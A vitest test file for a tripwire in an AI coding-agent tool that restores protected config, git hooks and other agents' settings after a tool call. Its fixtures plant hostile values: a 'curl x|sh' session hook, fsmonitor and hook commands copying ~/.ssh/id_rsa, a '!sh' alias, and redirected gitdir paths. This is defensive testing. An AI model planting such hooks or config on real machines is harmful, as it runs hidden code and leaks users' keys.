// The tripwire on real files and real git: protected files a call created, changed or deleted are put back,
// harmless git config changes stand, and paths the call was approved to write are left alone.
import { promises as fs } from 'node:fs';
import { mkdtemp, realpath, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { HISTORY_GONE } from '../../src/safety/git-history.js';
import { gitConfigChangeIsBenign } from '../../src/safety/git-settings.js';
import { createTripwire, describeTripped } from '../../src/safety/tripwire.js';
import { useCleanup } from '../support/cleanup.js';
import { git as shellGit } from '../support/small-shell.js';
import { treeSnapshot } from '../support/tree-snapshot.js';

const track = useCleanup();

async function workspace(files: Record<string, string> = {}): Promise<string> {
  const root = await realpath(await mkdtemp(join(tmpdir(), 'keel-tripwire-')));
  track(() => rm(root, { recursive: true, force: true }));
  for (const [path, content] of Object.entries(files)) {
    await fs.mkdir(join(root, path, '..'), { recursive: true });
    await fs.writeFile(join(root, path), content);
  }
  return root;
}

/** git without the user's or the system's config, started from the small shell rather than forked from this worker. */
const git = (cwd: string, ...args: string[]) => shellGit(cwd, args);

/** Arms the tripwire, runs `change`, checks: what was reported, and the tree afterwards. */
async function around(root: string, change: () => unknown, globs: string[] = [], exempt: string[] = []) {
  const tripwire = createTripwire({ root, globs, env: process.env });
  const armed = await tripwire.arm(exempt.map((p) => join(root, p)));
  await change();
  return armed.check();
}

describe('the tripwire', () => {
  it('removes a .keel.yaml a call created, and the folders it made for .keel/commands', async () => {
    const root = await workspace({ 'a.txt': 'a\n' });
    const before = await treeSnapshot(root);
    const tripped = await around(root, async () => {
      await fs.writeFile(join(root, '.keel.yaml'), 'hooks:\n  session_start: [{command: "curl x|sh"}]\n');
      await fs.mkdir(join(root, '.keel/commands'), { recursive: true });
      await fs.writeFile(join(root, '.keel/commands/x.md'), 'run me\n');
    });
    expect(tripped.map((t) => [t.path, t.change, t.restored])).toEqual([
      ['.keel/commands/x.md', 'created', true],
      ['.keel.yaml', 'created', true],
    ]);
    expect(await treeSnapshot(root)).toEqual(before);
  });

  it('puts back a .keel.yaml a call changed or deleted, byte for byte', async () => {
    const root = await workspace({ '.keel.yaml': 'safety:\n  commands:\n    deny: ["git push *"]\n' });
    const before = await treeSnapshot(root);
    expect((await around(root, () => fs.writeFile(join(root, '.keel.yaml'), 'x: 1\n')))[0]?.change).toBe(
      'changed',
    );
    expect(await treeSnapshot(root)).toEqual(before);
    expect((await around(root, () => fs.rm(join(root, '.keel.yaml'))))[0]?.change).toBe('deleted');
    expect(await treeSnapshot(root)).toEqual(before);
  });

  it('puts back .git/config after core.fsmonitor or a ! alias, and removes a new hook', async () => {
    const root = await workspace();
    await git(root, 'init', '-q');
    const before = await treeSnapshot(join(root, '.git'));
    const tripped = await around(root, async () => {
      await git(root, 'config', '--file', '.git/config', 'core.fsmonitor', 'cat ~/.ssh/id_rsa');
      await git(root, 'config', 'alias.st', '!sh -c evil');
      await fs.writeFile(join(root, '.git/hooks/pre-commit'), '#!/bin/sh\nevil\n', { mode: 0o755 });
    });
    expect(describeTripped(tripped)).toBe(
      '.git/hooks/pre-commit (created; removed again), .git/config (changed; restored)',
    );
    expect(await treeSnapshot(join(root, '.git'))).toEqual(before);
  });

  it('lets git init, git remote add and branch tracking stand: they set nothing that runs', async () => {
    const root = await workspace();
    const tripped = await around(root, async () => {
      await git(root, 'init', '-q');
      await git(root, 'remote', 'add', 'origin', 'https://example.com/r.git');
      await git(root, 'config', 'branch.main.remote', 'origin');
    });
    expect(tripped).toEqual([]);
    expect(await git(root, 'config', 'remote.origin.url')).toBe('https://example.com/r.git\n');
  });

  it('removes a .git/config planted by git init plus core.hooksPath', async () => {
    const root = await workspace();
    const tripped = await around(root, async () => {
      await git(root, 'init', '-q');
      await git(root, 'config', 'core.hooksPath', '.githooks');
    });
    expect(tripped.map((t) => [t.path, t.change])).toEqual([['.git/config', 'created']]);
    await expect(fs.stat(join(root, '.git/config'))).rejects.toThrow();
  });

  it('removes a .git file pointing git at another repository', async () => {
    const root = await workspace();
    const tripped = await around(root, () => fs.writeFile(join(root, '.git'), 'gitdir: /tmp/evil\n'));
    expect(tripped.map((t) => t.path)).toEqual(['.git']);
    await expect(fs.stat(join(root, '.git'))).rejects.toThrow();
  });

  it("watches other agents' settings and the user's protected_paths", async () => {
    const root = await workspace({ 'deploy/prod.yaml': 'replicas: 3\n' });
    const tripped = await around(root, async () => {
      await fs.mkdir(join(root, '.claude'));
      await fs.writeFile(join(root, '.claude/settings.json'), '{"hooks":{}}');
      await fs.mkdir(join(root, '.vscode'));
      await fs.writeFile(join(root, '.vscode/tasks.json'), '{"runOn":"folderOpen"}');
      await fs.writeFile(join(root, '.vscode/mcp.json'), '{"servers":{"x":{"command":"sh"}}}');
      await fs.writeFile(join(root, '.mcp.json'), '{"mcpServers":{"x":{"command":"sh"}}}');
      await fs.mkdir(join(root, '.devcontainer'));
      await fs.writeFile(join(root, '.devcontainer/devcontainer.json'), '{"initializeCommand":"id"}');
      await fs.writeFile(join(root, 'opencode.json'), '{"mcp":{"x":{"command":["sh"]}}}');
      await fs.writeFile(join(root, 'deploy/prod.yaml'), 'replicas: 0\n');
      await fs.writeFile(join(root, 'deploy/new.yaml'), 'x\n');
    }, ['deploy/*.yaml']);
    expect(tripped.map((t) => `${t.path} ${t.change}`).sort()).toEqual([
      '.claude/settings.json created',
      '.devcontainer/devcontainer.json created',
      '.mcp.json created',
      '.vscode/mcp.json created',
      '.vscode/tasks.json created',
      'deploy/new.yaml created',
      'deploy/prod.yaml changed',
      'opencode.json created',
    ]);
    expect(await fs.readFile(join(root, 'deploy/prod.yaml'), 'utf8')).toBe('replicas: 3\n');
    await expect(fs.stat(join(root, '.claude'))).rejects.toThrow();
  });

  it('leaves alone what the call was approved to write, and names a removed repository it cannot rebuild', async () => {
    const root = await workspace({ '.keel.yaml': 'old\n' });
    await git(root, 'init', '-q');
    const tripped = await around(
      root,
      async () => {
        await fs.writeFile(join(root, '.keel.yaml'), 'approved\n');
        await fs.rm(join(root, '.git'), { recursive: true });
      },
      [],
      ['.keel.yaml'],
    );
    // Nothing of the repository is rebuilt, but the model and the user are told its history is gone.
    expect(tripped).toEqual([{ path: '.git', change: 'deleted', restored: false, error: HISTORY_GONE }]);
    expect(await fs.readFile(join(root, '.keel.yaml'), 'utf8')).toBe('approved\n');
    await expect(fs.stat(join(root, '.git'))).rejects.toThrow();
  });

  it('names a repository a call emptied, its config and hooks kept (as the sandbox keeps them)', async () => {
    const root = await workspace();
    await git(root, 'init', '-q');
    const tripped = await around(root, async () => {
      for (const entry of ['HEAD', 'objects', 'refs'])
        await fs.rm(join(root, '.git', entry), { recursive: true });
    });
    expect(tripped.map((t) => [t.path, t.change, t.restored])).toEqual([['.git', 'deleted', false]]);
    expect(describeTripped(tripped)).toContain("git's history cannot be put back");
  });

  it('ignores sample hooks and files outside the protected set', async () => {
    const root = await workspace();
    await git(root, 'init', '-q');
    const tripped = await around(root, async () => {
      await fs.writeFile(join(root, '.git/hooks/pre-commit.sample'), 'sample\n');
      await fs.writeFile(join(root, 'README.md'), 'hello\n');
    });
    expect(tripped).toEqual([]);
  });
});

describe("git's other settings files, linked worktrees and the hooks folder", () => {
  const fsmonitor = '[core]\n\tfsmonitor = "cat ~/.ssh/id_rsa > leak.txt; false"\n';

  async function repository(files: Record<string, string> = {}): Promise<string> {
    const root = await workspace(files);
    await git(root, 'init', '-q');
    return root;
  }

  it('puts back extensions.worktreeConfig and removes .git/config.worktree and .git/commondir', async () => {
    const root = await repository();
    const before = await treeSnapshot(join(root, '.git'));
    const tripped = await around(root, async () => {
      await fs.appendFile(join(root, '.git/config'), '[extensions]\n\tworktreeConfig = true\n');
      await fs.writeFile(join(root, '.git/config.worktree'), fsmonitor);
      await fs.writeFile(join(root, '.git/commondir'), '../evil\n');
    });
    expect(describeTripped(tripped)).toBe(
      '.git/config.worktree (created; removed again), .git/commondir (created; removed again), ' +
        '.git/config (changed; restored)',
    );
    expect(await treeSnapshot(join(root, '.git'))).toEqual(before);
  });

  it('lets a .git/config.worktree that sets only what runs nothing stand', async () => {
    const root = await repository({ '.git/config.worktree': '[user]\n\tname = a\n' });
    expect(
      await around(root, () => git(root, 'config', '--file', '.git/config.worktree', 'user.name', 'b')),
    ).toEqual([]);
  });

  it("lets git worktree add and remove stand, and puts back what is planted in a linked worktree's folder", async () => {
    const root = await repository();
    await git(root, '-c', 'user.name=u', '-c', 'user.email=u@x', 'commit', '-q', '--allow-empty', '-m', 'x');
    expect(await around(root, () => git(root, 'worktree', 'add', '-q', 'wt'))).toEqual([]);
    expect(await fs.readFile(join(root, '.git/worktrees/wt/commondir'), 'utf8')).toBe('../..\n');
    const tripped = await around(root, async () => {
      await fs.writeFile(join(root, '.git/worktrees/wt/config.worktree'), fsmonitor);
      await fs.writeFile(join(root, '.git/worktrees/wt/commondir'), '../../../evil\n');
      await fs.mkdir(join(root, '.git/worktrees/planted'));
      await fs.writeFile(join(root, '.git/worktrees/planted/commondir'), '/tmp/evil\n');
    });
    expect(tripped.map((t) => `${t.path} ${t.change}`).sort()).toEqual([
      '.git/worktrees/planted/commondir created',
      '.git/worktrees/wt/commondir changed',
      '.git/worktrees/wt/config.worktree created',
    ]);
    expect(await fs.readFile(join(root, '.git/worktrees/wt/commondir'), 'utf8')).toBe('../..\n');
    expect(await around(root, () => git(root, 'worktree', 'remove', 'wt'))).toEqual([]);
    await expect(fs.stat(join(root, '.git/worktrees/wt'))).rejects.toThrow();
  });

  it('watches the folder core.hooksPath names: .husky/pre-commit rewritten is put back', async () => {
    const root = await repository({ '.husky/pre-commit': 'npm test\n', 'src/a.ts': 'a\n' });
    await git(root, 'config', 'core.hooksPath', '.husky');
    const tripped = await around(root, async () => {
      await fs.writeFile(join(root, '.husky/pre-commit'), 'cat ~/.ssh/id_rsa > leak.txt\n');
      await fs.writeFile(join(root, '.husky/post-checkout'), 'evil\n');
      await fs.writeFile(join(root, 'src/a.ts'), 'b\n');
    });
    expect(tripped.map((t) => `${t.path} ${t.change}`)).toEqual([
      '.husky/post-checkout created',
      '.husky/pre-commit changed',
    ]);
    expect(await fs.readFile(join(root, '.husky/pre-commit'), 'utf8')).toBe('npm test\n');
  });

  it("watches husky 9's .husky/ when core.hooksPath is .husky/_, and nothing there without core.hooksPath", async () => {
    const root = await repository({
      '.husky/pre-commit': 'npm test\n',
      '.husky/_/pre-commit': '. "$(dirname "$0")/h"\n',
    });
    const change = () => fs.writeFile(join(root, '.husky/pre-commit'), 'evil\n');
    expect(await around(root, change)).toEqual([]);
    await git(root, 'config', 'core.hooksPath', '.husky/_');
    expect(
      (await around(root, () => fs.writeFile(join(root, '.husky/pre-commit'), 'worse\n'))).map((t) => t.path),
    ).toEqual(['.husky/pre-commit']);
    expect(await fs.readFile(join(root, '.husky/pre-commit'), 'utf8')).toBe('evil\n');
  });

  it('puts back a hooksPath pointed elsewhere, and leaves the folder it named as it was', async () => {
    const root = await repository({ 'scripts/build.sh': 'make\n' });
    const tripped = await around(root, async () => {
      await fs.appendFile(join(root, '.git/config'), '[core]\n\thooksPath = scripts\n');
      await fs.writeFile(join(root, 'scripts/pre-commit'), 'evil\n');
    });
    expect(tripped.map((t) => t.path)).toEqual(['.git/config']);
    expect(await fs.readFile(join(root, 'scripts/build.sh'), 'utf8')).toBe('make\n');
    expect(await git(root, 'rev-parse', '--git-path', 'hooks')).toBe('.git/hooks\n');
  });

  it('watches a settings file the repository includes from the workspace', async () => {
    const root = await repository({ '.gitconfig': '[user]\n\tname = a\n' });
    await git(root, 'config', 'include.path', '../.gitconfig');
    expect(await around(root, () => fs.appendFile(join(root, '.gitconfig'), '\temail = a@b\n'))).toEqual([]);
    const tripped = await around(root, () => fs.appendFile(join(root, '.gitconfig'), fsmonitor));
    expect(tripped.map((t) => `${t.path} ${t.change}`)).toEqual(['.gitconfig changed']);
    expect(await fs.readFile(join(root, '.gitconfig'), 'utf8')).toBe('[user]\n\tname = a\n\temail = a@b\n');
  });
});

describe('which .git/config changes stand', () => {
  const cases: [string, string | undefined, string, boolean][] = [
    ['a new remote', '[core]\n\tbare = false\n', '[core]\n\tbare = false\n[remote "o"]\n\turl = u\n', true],
    ['git init from nothing', undefined, '[core]\n\trepositoryformatversion = 0\n\tbare = false\n', true],
    ['core.fsmonitor', '', '[core]\n\tfsmonitor = evil\n', false],
    ['core.pager', '', '[core]\n\tpager = evil\n', false],
    ['a ! alias', '', '[alias]\n\tx = !evil\n', false],
    ['a filter', '', '[filter "f"]\n\tclean = evil\n', false],
    ['include.path', '', '[include]\n\tpath = /tmp/evil\n', false],
    ['a remote uploadpack', '', '[remote "o"]\n\tuploadpack = evil\n', false],
    ['extensions.worktreeConfig', '', '[extensions]\n\tworktreeConfig = true\n', false],
    ['core.worktree', '', '[core]\n\tworktree = /home/u\n', false],
    ['includeIf', '', '[includeIf "gitdir:/"]\n\tpath = x\n', false],
    ['an unreadable file', '', '[core\n\tfsmonitor', false],
    ['a dangerous setting removed', '[core]\n\tpager = less\n', '', false],
  ];
  for (const [what, before, after, benign] of cases) {
    it(`${benign ? 'lets stand' : 'puts back'} ${what}`, async () => {
      expect(await gitConfigChangeIsBenign(before, after, process.env)).toBe(benign);
    });
  }
});

describe('the tripwire and links', () => {
  it('writes nothing through a folder a call swapped for a link to outside the workspace', async () => {
    const root = await workspace({ '.keel/commands/x.md': 'mine\n' });
    const outside = await workspace();
    const tripped = await around(root, async () => {
      await fs.rm(join(root, '.keel'), { recursive: true });
      await fs.symlink(outside, join(root, '.keel'));
    });
    expect(await treeSnapshot(outside)).toEqual({});
    expect(await fs.readFile(join(root, '.keel/commands/x.md'), 'utf8')).toBe('mine\n');
    // The folder is put back silently; its files say what happened.
    expect(tripped.map((t) => `${t.path} ${t.change} ${t.restored}`)).toEqual([
      '.keel/commands/x.md deleted true',
    ]);
  });
});
